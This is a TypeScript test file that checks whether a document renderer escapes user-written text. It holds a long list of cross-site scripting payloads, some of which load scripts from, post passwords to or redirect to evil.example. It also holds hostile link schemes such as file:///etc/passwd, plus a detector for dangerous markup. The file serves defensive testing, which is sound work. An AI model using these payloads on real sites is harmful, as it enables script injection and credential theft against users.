import { cssText } from '#core/css-text.ts';
import { docHtml } from '#schema/html.ts';
import type { DefaultTreeAdapterTypes } from 'parse5';
import { parse } from 'parse5';
import { expect, test } from 'vitest';
import { jsonLdScript } from '../../src/routes/(read)/r/json-ld.ts';
import { doc, h, link, p, table, td, text, th, tr } from '../schema/support/documents.ts';

/** What people write is shown as they wrote it, and never is markup. */

type Node = DefaultTreeAdapterTypes.Node;

/** Ways out of text, attributes, scripts, styles and comments, as they are tried. */
const CORPUS = [
	'<script>alert(1)</script>',
	'<ScRiPt src=//evil.example/x.js></sCrIpT>',
	'"><script>alert(1)</script>',
	"'><script>alert(1)</script>",
	'</title><script>alert(1)</script>',
	'</style><script>alert(1)</script>',
	'</textarea><script>alert(1)</script>',
	'</script><script>alert(1)</script>',
	'<!--<script>alert(1)--></script>',
	'--><img src=x onerror=alert(1)>',
	'<img src=x onerror=alert(1)>',
	'" onmouseover="alert(1)',
	"' autofocus onfocus='alert(1)",
	'<svg onload=alert(1)>',
	'<svg><script href="data:text/javascript,alert(1)"/></svg>',
	'<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
	'<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
	'<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
	'<details open ontoggle=alert(1)>',
	'<body onpageshow=alert(1)>',
	'<a href="javascript:alert(1)">x</a>',
	'<a href="java\nscript:alert(1)">x</a>',
	'<form action="https://evil.example"><input name=password>',
	'<base href="https://evil.example/">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<link rel=stylesheet href=https://evil.example>',
	'<object data="data:text/html,<script>alert(1)</script>">',
	'<template><script>alert(1)</script></template>',
	'<p style="position:fixed;inset:0">x',
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'&#60;script&#62;alert(1)&#60;/script&#62;',
	'{{constructor.constructor("alert(1)")()}}',
	'${alert(1)}',
	'\u2028\u2029</script>',
	'\u202e<script>alert(1)</script>',
	'<<script>alert(1)//<</script>',
	'<img/src=`x`onerror=alert(1)>',
	']]><script>alert(1)</script>'
];

/** Every element and attribute of a page that could do something, as a browser reads it. */
function deeds(node: Node): string[] {
	const own: string[] = [];
	if ('tagName' in node) {
		const type = node.attrs.find(({ name }) => name === 'type')?.value;
		if (
			/^(?:iframe|object|embed|form|base|meta|link|style|template|animate|svg|math|details)$/.test(
				node.tagName
			)
		)
			own.push(node.tagName);
		if (node.tagName === 'script' && type !== 'application/ld+json') own.push('script');
		for (const { name, value } of node.attrs) {
			if (name.startsWith('on') || name === 'style' || name === 'srcdoc') own.push(name);
			if (/^(?:href|src|action)$/.test(name) && !/^(?:https:\/\/|mailto:|\/|#)/.test(value))
				own.push(`${name}=${value}`);
		}
	}
	return [...own, ...('childNodes' in node ? node.childNodes.flatMap(deeds) : [])];
}

const textOf = (node: Node): string =>
	'value' in node ? node.value : 'childNodes' in node ? node.childNodes.map(textOf).join('') : '';

test('[O9] the test sees what it looks for', () => {
	const seen = CORPUS.filter((one) => deeds(parse(`<body><p>${one}</p></body>`)).length > 0);
	expect(seen.length).toBeGreaterThan(24);
});

test.each(['draft', 'edition'] as const)(
	'[O9] in every place of a %s what somebody wrote is words',
	(form) => {
		for (const words of CORPUS) {
			const written = doc(
				h(2, words),
				p(words, text(words, link('https://a.se/?q=' + encodeURIComponent(words)))),
				table(
					{ caption: words, source: words, title: words },
					tr(th(words), th(words)),
					tr(th(words), td(words))
				),
				{ type: 'picture', attrs: { image: words, alt: words, caption: words } }
			);
			const page = parse(
				`<!doctype html><body>${docHtml(written, { form, headingBase: 2 })}</body>`
			);
			expect([words, deeds(page)]).toEqual([words, []]);
			expect(textOf(page)).toContain(words);
		}
	}
);

test('[O9] a link leads nowhere but to the web and to mail, however its address is written', () => {
	for (const href of [
		'javascript:alert(1)',
		'JaVaScRiPt:alert(1)',
		' javascript:alert(1)',
		'java\tscript:alert(1)',
		'\u0001javascript:alert(1)',
		'javascript&colon;alert(1)',
		'vbscript:x',
		'data:text/html,<script>alert(1)</script>',
		'blob:https://a.se/x',
		'file:///etc/passwd',
		'//evil.example',
		'\\\\evil.example',
		'https://a.se" onclick="alert(1)'
	]) {
		const markup = docHtml(doc(p(text('x', link(href)))), { form: 'edition', headingBase: 2 });
		expect([href, deeds(parse(`<body>${markup}</body>`))]).toEqual([href, []]);
	}
});

test('[O9] in the data and the style of a page’s head it stays data and a string', () => {
	for (const words of CORPUS) {
		const script = jsonLdScript({ name: words, [words]: words });
		const style = `<style>:root{--running-foot:${cssText(words)}}</style>`;
		const page = parse(`<head>${script}${style}</head><body></body>`);
		expect([words, deeds(page)]).toEqual([words, ['style']]);
		const data = /<script[^>]*>([\s\S]*)<\/script>$/.exec(script)?.[1] ?? '';
		expect(JSON.parse(data)).toEqual({ name: words, [words]: words });
		expect(cssText(words)).toMatch(/^"[A-Za-z0-9 \\]*"$/);
	}
});
